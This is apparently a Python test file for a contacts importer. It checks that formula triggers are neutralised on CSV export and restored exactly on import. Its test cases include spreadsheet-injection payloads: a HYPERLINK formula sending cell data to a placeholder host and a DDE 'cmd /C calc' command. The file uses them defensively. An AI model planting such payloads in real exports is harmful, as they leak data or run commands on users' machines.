"""Formula neutralisation on export and its exact inverse on import (P16)."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from importers.base import Birthday, PersonRecord
from importers.formats import parse_csv
from importers.spreadsheet import TRIGGERS, export_rows, neutralize, unneutralize, write_csv

CASES = [
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1 555 0100",
    "-5",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=already quoted",
    "'plain",
    "plain",
    "",
]
TEXT = st.text(
    st.one_of(
        st.characters(blacklist_categories=("Cs",)),
        st.sampled_from(list("'\",;\r\n\u00a0 =+-@|%\t\0") + ["\u05d0", "\U0001f680"]),
    ),
    max_size=30,
)


def read_back(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def starts_with_trigger(cell: str) -> bool:
    stripped = cell.lstrip(" \u00a0")
    return bool(stripped) and stripped[0] in TRIGGERS


@pytest.mark.parametrize("value", CASES)
def test_known_payloads_are_neutralised_and_restored(value):
    cell = read_back(write_csv([[value]]))[0][0]
    assert cell.startswith("'") or not starts_with_trigger(cell)
    assert unneutralize(cell) == value


def test_every_field_is_quoted():
    assert write_csv([["a", "b"]]) == '\ufeff"a","b"\r\n'


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=5), min_size=1, max_size=5))
def test_round_trip_is_exact_and_safe(rows):
    back = read_back(write_csv(rows))
    assert [[unneutralize(c) for c in row] for row in back] == rows
    for row in back:
        for cell in row:
            assert cell.startswith("'") or not starts_with_trigger(cell)
            assert neutralize(unneutralize(cell)) == cell


def test_rapport_export_round_trips_through_parse_csv():
    people = [
        PersonRecord(
            source="rapport",
            file="x",
            row=1,
            first_name="=Ada",
            last_name="Lovelace",
            full_name="Ada Lovelace",
            linkedin_url="https://www.linkedin.com/in/ada",
            emails=("ada@engine.example", "ada@home.example"),
            phones=("+44 20 7946 0000",),
            company="@Engines",
            title="-Countess",
            location="London",
            birthday=Birthday(12, 10, None),
            notes='N/A\nline two, "quoted"',
            tags=("VIP", "Clients"),
        ),
        {"id": 7, "first_name": "Bob", "emails": ["bob@example.com"], "stage": "lead"},
    ]
    text = export_rows(people)
    header = read_back(text)[0]
    assert header[:3] == ["id", "first_name", "last_name"]
    imp = parse_csv(text.encode("utf-8"), "rapport.csv")
    assert imp.format == "rapport"
    ada, bob = list(imp.records())
    assert (ada.first_name, ada.company, ada.title) == ("=Ada", "@Engines", "-Countess")
    assert ada.emails == people[0].emails and ada.phones == ("+44 20 7946 0000",)
    assert ada.tags == ("VIP", "Clients") and ada.birthday == Birthday(12, 10, None)
    assert ada.notes == people[0].notes and ada.linkedin_url == people[0].linkedin_url
    assert bob.first_name == "Bob" and bob.emails == ("bob@example.com",)
